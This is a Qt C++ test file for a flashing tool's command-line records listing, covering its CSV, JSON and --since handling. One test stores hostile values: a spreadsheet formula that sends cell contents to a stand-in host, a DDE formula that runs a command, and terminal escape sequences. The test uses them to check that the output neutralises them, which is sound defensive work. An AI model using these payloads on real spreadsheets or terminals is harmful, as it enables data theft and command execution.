// quobin-cli records against a database the test fills: the listing, the
// summary, CSV for a spreadsheet, JSON for a script, --since, and the
// usage that is refused.
#include "CliRun.h"
#include "RecordSamples.h"
#include "RecordStores.h"
#include "TempFiles.h"

#include <QDir>
#include <QFileInfo>
#include <QJsonArray>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace quobin::records;
using quobin::testing::runProgram;
using quobin::testing::sampleRecord;

namespace {

// A strict RFC 4180 reader: fields separated by commas, records by CR LF,
// quoted fields may hold commas, line breaks and doubled quotes.
QList<QStringList> parseCsv(const QString &text, QString *problem)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
                field += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == QLatin1Char('"') && field.isEmpty()) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << field;
            field.clear();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text[i + 1] == QLatin1Char('\n')) {
            row << field;
            rows << row;
            row.clear();
            field.clear();
            ++i;
        } else if (c == QLatin1Char('\n') || c == QLatin1Char('\r') || c == QLatin1Char('"')) {
            *problem = QStringLiteral("a bare line break or quote at %1").arg(i);
            return {};
        } else {
            field += c;
        }
    }
    if (!field.isEmpty() || !row.isEmpty())
        *problem = QStringLiteral("the last row does not end with CR LF");
    return rows;
}

// Makes a SQLite file of some other program's: one table, the rollback
// journal SQLite starts with.
void makeForeignDatabase(const QString &path)
{
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("foreign"));
        db.setDatabaseName(path);
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("CREATE TABLE notes (body TEXT)")));
        QVERIFY(query.exec(QStringLiteral("INSERT INTO notes VALUES ('keep me')")));
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("foreign"));
}

QByteArray fileBytes(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestCliRecords : public QObject {
    Q_OBJECT

private:
    quobin::testing::TempFiles m_temp;
    QString m_database;
    QList<BoardRecord> m_records;

    QStringList with(const QStringList &arguments) const
    {
        return QStringList{QStringLiteral("records"), QStringLiteral("--records"), m_database} + arguments;
    }

private slots:
    void initTestCase()
    {
        m_database = m_temp.filePath(QStringLiteral("line.sqlite"));
        // Com 1: pass, pass, no answer; Com 2: pass, a No to a question;
        // committed out of order, as parallel slots finish.
        m_records = {sampleRecord(0), sampleRecord(10, QStringLiteral("Com 2")), sampleRecord(50),
                     sampleRecord(100, QStringLiteral("Com 1"), QStringLiteral("no-response")),
                     sampleRecord(3600, QStringLiteral("Com 2"), QStringLiteral("stopped"))};
        const auto store = openRecordStore(m_database);
        for (qsizetype i = m_records.size() - 1; i >= 0; --i)
            store->commit(m_records[i]);
    }

    void listsOldestFirstThenASummaryPerJobAndSlot()
    {
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), with({}));
        QCOMPARE(run.status, 0);
        const QStringList lines = run.out.split(QLatin1Char('\n'));
        QVERIFY2(lines.size() > 8, qPrintable(run.out));
        QVERIFY(lines[1].startsWith(QLatin1String("2026-03-01 08:00:00  bench-7       Com 1       success")));
        QVERIFY(lines[4].contains(QLatin1String("no-response")));
        // A message's line break stays within its record's line.
        QVERIFY(lines[4].endsWith(QLatin1String("Checksum error at line 17, \"twice\" stopped")));
        QVERIFY(lines[5].startsWith(QLatin1String("2026-03-01 09:00:00")));
        QVERIFY2(run.out.contains(QLatin1String(
                     "firmware.hex (9f86d081884c) on bench-7 Com 1: 3 boards, 2 passed, 1 failed (no-response 1), "
                     "first-pass yield 66.7 %\n")),
                 qPrintable(run.out));
        QVERIFY2(run.out.contains(QLatin1String(
                     "on bench-7 Com 2: 2 boards, 1 passed, 1 failed (stopped 1), first-pass yield 50.0 %\n")),
                 qPrintable(run.out));
    }

    void csvHoldsExactlyWhatWasRecorded()
    {
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), with({QStringLiteral("--csv")}));
        QCOMPARE(run.status, 0);
        QString problem;
        const QList<QStringList> rows = parseCsv(run.out, &problem);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(rows.size(), m_records.size() + 1);
        const QStringList header = rows[0];
        QCOMPARE(header.size(), 28); // the socket beside the adapter; the job, its version, the board ID and the re-flash mark last
        QCOMPARE(header.indexOf(QLatin1String("socket")), header.indexOf(QLatin1String("by_id_name")) + 1);
        auto column = [&](const char *name) { return header.indexOf(QLatin1String(name)); };
        for (qsizetype i = 0; i < m_records.size(); ++i) {
            const QStringList &row = rows[i + 1];
            const BoardRecord &r = m_records[i];
            QCOMPARE(row.size(), header.size());
            QCOMPARE(row[column("id")], r.id.toString(QUuid::WithoutBraces));
            QCOMPARE(row[column("slot")], r.slot);
            QCOMPARE(row[column("job_sha256")], r.jobSha256);
            QCOMPARE(row[column("started")], r.started.toString(Qt::ISODateWithMs));
            QCOMPARE(row[column("result")], r.result);
            QCOMPARE(row[column("message")], r.message);
            QCOMPARE(row[column("bootloader_version")], QStringLiteral("1.28"));
            QCOMPARE(row[column("seconds")], QStringLiteral("41.200"));
            QCOMPARE(row[column("lines_sent")], QStringLiteral("3001"));
            QCOMPARE(row[column("questions")],
                     QStringLiteral("line 17: Checksum error at line 17. Continue with download? -> no"));
            QCOMPARE(row[column("log_path")], r.logPath);
            QCOMPARE(row[column("socket")], r.socket);
        }
    }

    void jsonGivesOneObjectPerRecordThenTheSummary()
    {
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), with({QStringLiteral("--json")}));
        QCOMPARE(run.status, 0);
        const QStringList lines = run.out.trimmed().split(QLatin1Char('\n'));
        QCOMPARE(lines.size(), m_records.size() + 1);
        for (qsizetype i = 0; i < m_records.size(); ++i) {
            const QJsonObject record = QJsonDocument::fromJson(lines[i].toUtf8()).object();
            QCOMPARE(record.value(QStringLiteral("id")).toString(), m_records[i].id.toString(QUuid::WithoutBraces));
            QCOMPARE(record.value(QStringLiteral("bootloaderVersion")).toDouble(), 1.28);
            QCOMPARE(record.value(QStringLiteral("message")).toString(), m_records[i].message);
            QCOMPARE(record.value(QStringLiteral("questions")).toArray().first().toObject(),
                     (QJsonObject{{QStringLiteral("line"), 17},
                                  {QStringLiteral("reason"), m_records[i].questions.first().reason},
                                  {QStringLiteral("answer"), QStringLiteral("no")}}));
        }
        const QJsonObject last = QJsonDocument::fromJson(lines.last().toUtf8()).object();
        QCOMPARE(last.value(QStringLiteral("waitingForServer")).toInt(-1), 0);
        const QJsonArray summary = last.value(QStringLiteral("summary")).toArray();
        QCOMPARE(summary.size(), 2);
        const QJsonObject first = summary[0].toObject();
        QCOMPARE(first.value(QStringLiteral("slot")).toString(), QStringLiteral("Com 1"));
        QCOMPARE(first.value(QStringLiteral("boards")).toInt(), 3);
        QCOMPARE(first.value(QStringLiteral("passed")).toInt(), 2);
        QCOMPARE(first.value(QStringLiteral("failed")).toObject(), (QJsonObject{{QStringLiteral("no-response"), 1}}));
        QCOMPARE(first.value(QStringLiteral("firstPassYield")).toDouble(), 0.6667);
    }

    void sinceTakesADateOrATime_data()
    {
        QTest::addColumn<QString>("since");
        QTest::addColumn<int>("records");
        QTest::newRow("a date") << "2026-03-01" << 5;
        QTest::newRow("the next day") << "2026-03-02" << 0;
        QTest::newRow("a time, UTC") << "2026-03-01T08:00:10.250" << 4;
        QTest::newRow("with a space") << "2026-03-01 08:00:11" << 3;
        QTest::newRow("an offset") << "2026-03-01T09:01+01:00" << 2;
        QTest::newRow("Z") << "2026-03-01T08:30:00Z" << 1;
    }
    void sinceTakesADateOrATime()
    {
        QFETCH(QString, since);
        QFETCH(int, records);
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), with({QStringLiteral("--json"), QStringLiteral("--since"), since}));
        QCOMPARE(run.status, 0);
        QCOMPARE(run.out.trimmed().split(QLatin1Char('\n')).size(), records + 1);
    }

    void badUsageAndUnreadableTargetsExitWith2_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("message");
        const QString db = m_temp.filePath(QStringLiteral("line.sqlite"));
        const QString text = m_temp.write(QStringLiteral("notes.txt"), QByteArray(2048, 'n'));
        QTest::newRow("csv and json") << QStringList{"--csv", "--json"} << "cannot be given together";
        QTest::newRow("since twice") << QStringList{"--since", "2026-03-01", "--since", "2026-03-02"} << "--since is given more than once";
        QTest::newRow("records twice") << QStringList{"--records", db, "--records", db} << "--records is given more than once";
        QTest::newRow("bad time") << QStringList{"--records", db, "--since", "03/01/2026"} << "--since takes an ISO date";
        QTest::newRow("extra argument") << QStringList{"--records", db, "more"} << "unexpected argument 'more'";
        QTest::newRow("missing file") << QStringList{"--records", m_temp.filePath(QStringLiteral("none.sqlite"))} << "no such records database";
        QTest::newRow("not a database") << QStringList{"--records", text} << "is not a records database";
        QTest::newRow("bad server URL") << QStringList{"--records", "postgresql://u:pw@host"} << "no database name";
    }
    void badUsageAndUnreadableTargetsExitWith2()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, message);
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), QStringList{QStringLiteral("records")} + arguments);
        QCOMPARE(run.status, 2);
        QVERIFY2(run.err.contains(message), qPrintable(run.err));
        QVERIFY(run.out.isEmpty());
        QVERIFY(!QFile::exists(m_temp.filePath(QStringLiteral("none.sqlite"))));
    }

    void withoutATargetTheUsersOwnFileIsListed()
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("XDG_DATA_HOME"), m_temp.filePath(QStringLiteral("data")));
        openRecordStore(QString(), env)->commit(sampleRecord(7, QStringLiteral("Com 4")));
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), {QStringLiteral("records"), QStringLiteral("--csv")}, env);
        QCOMPARE(run.status, 0);
        QCOMPARE(run.out.count(QStringLiteral("\r\n")), 2);
        QVERIFY(run.out.contains(QLatin1String(",Com 4,")));
    }

    // Names are whatever the operator or a job file's author typed. In the
    // table they can neither drive the terminal nor forge a row; in the CSV
    // no cell is taken for a formula by a spreadsheet.
    void hostileNamesReachNeitherTerminalNorSpreadsheet()
    {
        const QString path = m_temp.filePath(QStringLiteral("hostile.sqlite"));
        BoardRecord formula = sampleRecord(0);
        formula.station = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
        formula.jobFile = QStringLiteral("=1+2+cmd|' /C calc'!A0.hex");
        formula.slot = QStringLiteral("@SUM(A1)");
        formula.usbSerial = QStringLiteral("+41");
        formula.byIdName = QStringLiteral("-2+3");
        formula.detail = QStringLiteral("\t=1+1");
        formula.logPath = QStringLiteral("\r=1+1");
        BoardRecord escapes = sampleRecord(10, QStringLiteral("Com 2"), QStringLiteral("no-response"));
        escapes.station = QStringLiteral("\x1b]0;owned\x07" "bench\x1b[2J");
        escapes.message = QStringLiteral("gone\x1b[1A\rforged  success");
        escapes.jobFile = QStringLiteral("job\u009b31m.hex");
        {
            const auto store = openRecordStore(path);
            store->commit(formula);
            store->commit(escapes);
        }

        const auto table = runProgram(QStringLiteral(QUOBIN_CLI), {QStringLiteral("records"), QStringLiteral("--records"), path});
        QCOMPARE(table.status, 0);
        for (const QChar c : table.out)
            QVERIFY2(c == QLatin1Char('\n') || (c.unicode() >= 0x20 && c.unicode() != 0x7f
                                                  && (c.unicode() < 0x80 || c.unicode() >= 0xa0)),
                     qPrintable(QStringLiteral("control character U+%1 in: %2").arg(int(c.unicode()), 4, 16, QLatin1Char('0')).arg(table.out)));
        // Header, two records, a blank line, two summaries.
        QCOMPARE(table.out.trimmed().split(QLatin1Char('\n')).size(), 6);
        QVERIFY2(table.out.contains(QLatin1String("\\e]0;owned\\abench\\e[2J")), qPrintable(table.out));
        // A message is one line: its line ends are spaces, its escapes escaped.
        QVERIFY2(table.out.contains(QLatin1String("gone\\e[1A forged success")), qPrintable(table.out));

        const auto csv = runProgram(QStringLiteral(QUOBIN_CLI),
                                    {QStringLiteral("records"), QStringLiteral("--records"), path, QStringLiteral("--csv")});
        QCOMPARE(csv.status, 0);
        QString problem;
        const QList<QStringList> rows = parseCsv(csv.out, &problem);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(rows.size(), 3);
        for (const QStringList &row : rows)
            for (const QString &cell : row)
                QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()), qPrintable(cell));
        // The text itself is kept, behind the quote.
        const QStringList &first = rows[1];
        QCOMPARE(first[rows[0].indexOf(QLatin1String("station"))], QLatin1Char('\'') + formula.station);
        QCOMPARE(first[rows[0].indexOf(QLatin1String("job_file"))], QLatin1Char('\'') + formula.jobFile);
        QCOMPARE(first[rows[0].indexOf(QLatin1String("log_path"))], QLatin1Char('\'') + formula.logPath);
        QCOMPARE(first[rows[0].indexOf(QLatin1String("result"))], QStringLiteral("success"));
    }

    // A board the operator cancelled says nothing of the line: neither a
    // pass nor a failure, counted apart.
    void cancelledBoardsAreNeitherPassedNorFailed()
    {
        const QString path = m_temp.filePath(QStringLiteral("cancelled.sqlite"));
        {
            const auto store = openRecordStore(path);
            store->commit(sampleRecord(0));
            store->commit(sampleRecord(60));
            store->commit(sampleRecord(120, QStringLiteral("Com 1"), QStringLiteral("transfer-error")));
            store->commit(sampleRecord(180, QStringLiteral("Com 1"), QStringLiteral("cancelled")));
        }
        const auto text = runProgram(QStringLiteral(QUOBIN_CLI), {QStringLiteral("records"), QStringLiteral("--records"), path});
        QCOMPARE(text.status, 0);
        QVERIFY2(text.out.contains(QLatin1String("Com 1: 3 boards, 2 passed, 1 failed (transfer-error 1), 1 cancelled, "
                                                 "first-pass yield 66.7 %\n")),
                 qPrintable(text.out));
        const auto json = runProgram(QStringLiteral(QUOBIN_CLI),
                                     {QStringLiteral("records"), QStringLiteral("--records"), path, QStringLiteral("--json")});
        const QJsonObject summary = QJsonDocument::fromJson(json.out.trimmed().split(QLatin1Char('\n')).last().toUtf8())
                                        .object().value(QStringLiteral("summary")).toArray().first().toObject();
        QCOMPARE(summary.value(QStringLiteral("boards")).toInt(), 3);
        QCOMPARE(summary.value(QStringLiteral("cancelled")).toInt(), 1);
        QCOMPARE(summary.value(QStringLiteral("failed")).toObject(), (QJsonObject{{QStringLiteral("transfer-error"), 1}}));
        // Printed as the number it is, not as 0.6667000000000001.
        QVERIFY2(json.out.contains(QLatin1String("\"firstPassYield\":0.6667,")), qPrintable(json.out));
    }

    // A time without a zone is UTC, as the records are; the desktop's own
    // zone plays no part, not even on the night its clocks go forward.
    void sinceIsNeverReadInTheLocalZone_data()
    {
        QTest::addColumn<QString>("since");
        QTest::addColumn<int>("records");
        QTest::newRow("UTC, not Berlin's 07:30 UTC") << "2026-03-01T08:30" << 1;
        QTest::newRow("in the spring-forward gap") << "2026-03-29T02:30" << 0;
        QTest::newRow("in the autumn overlap") << "2026-10-25T02:30" << 0;
        QTest::newRow("a zone of its own") << "2026-03-01T09:30:00+01:00" << 1;
        QTest::newRow("a zone without a colon") << "2026-03-01T03:30-0500" << 1;
        QTest::newRow("Z, lower case") << "2026-03-01T08:00:20z" << 3;
    }
    void sinceIsNeverReadInTheLocalZone()
    {
        QFETCH(QString, since);
        QFETCH(int, records);
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("TZ"), QStringLiteral("Europe/Berlin"));
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), with({QStringLiteral("--json"), QStringLiteral("--since"), since}), env);
        QVERIFY2(run.status == 0, qPrintable(run.err));
        QCOMPARE(run.out.trimmed().split(QLatin1Char('\n')).size(), records + 1);
    }

    // Reading opens the file read-only: a database of another program is
    // refused and left byte for byte as it was (no write-ahead log switched
    // on, no table added); the default file is not made by a look at it.
    void readingChangesNothing()
    {
        const QString foreign = m_temp.filePath(QStringLiteral("other.db"));
        makeForeignDatabase(foreign);
        const QByteArray before = fileBytes(foreign);
        QVERIFY(!before.isEmpty());
        const auto run = runProgram(QStringLiteral(QUOBIN_CLI), {QStringLiteral("records"), QStringLiteral("--records"), foreign});
        QCOMPARE(run.status, 2);
        QVERIFY2(run.err.contains(QLatin1String("is not a Quobin records database")), qPrintable(run.err));
        QCOMPARE(fileBytes(foreign), before);
        QVERIFY(!QFile::exists(foreign + QStringLiteral("-wal")));
        QVERIFY(!QFile::exists(foreign + QStringLiteral("-shm")));

        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("XDG_DATA_HOME"), m_temp.filePath(QStringLiteral("empty-data")));
        const auto nothing = runProgram(QStringLiteral(QUOBIN_CLI), {QStringLiteral("records")}, env);
        QCOMPARE(nothing.status, 0);
        QCOMPARE(nothing.out, QStringLiteral("No records.\n"));
        QVERIFY(!QFileInfo::exists(m_temp.filePath(QStringLiteral("empty-data"))));
    }

    // A records file that is read-only, owned by another user, in a folder
    // this user may not write: readable all the same, and left as it was.
    void aFileOfAnotherUserIsRead()
    {
        if (::geteuid() != 0)
            QSKIP("needs root to run the program as another user");
        const QString setpriv = QStandardPaths::findExecutable(QStringLiteral("setpriv"));
        QVERIFY2(!setpriv.isEmpty(), "setpriv (util-linux) is needed to run the program as another user");
        quobin::testing::TempFiles temp;
        const QString folder = temp.filePath(QStringLiteral("line"));
        QVERIFY(QDir().mkpath(folder));
        const QString path = folder + QStringLiteral("/records.sqlite");
        {
            const auto store = openRecordStore(path);
            store->commit(sampleRecord(0));
            store->commit(sampleRecord(10, QStringLiteral("Com 2")));
        }
        QVERIFY(!QFile::exists(path + QStringLiteral("-shm")));
        QVERIFY(::chmod(QFile::encodeName(temp.path()).constData(), 0755) == 0);
        QVERIFY(::chmod(QFile::encodeName(folder).constData(), 0755) == 0);
        const QByteArray before = fileBytes(path);
        for (const mode_t mode : {mode_t(0644), mode_t(0444)}) {
            QVERIFY(::chmod(QFile::encodeName(path).constData(), mode) == 0);
            const auto run = runProgram(setpriv,
                                        {QStringLiteral("--reuid=65534"), QStringLiteral("--regid=65534"),
                                         QStringLiteral("--clear-groups"), QStringLiteral(QUOBIN_CLI),
                                         QStringLiteral("records"), QStringLiteral("--records"), path,
                                         QStringLiteral("--csv")});
            QVERIFY2(run.status == 0, qPrintable(run.err));
            QCOMPARE(run.out.count(QStringLiteral("\r\n")), 3);
            QCOMPARE(fileBytes(path), before);
        }
    }
};

QTEST_GUILESS_MAIN(TestCliRecords)
#include "tst_cli_records.moc"
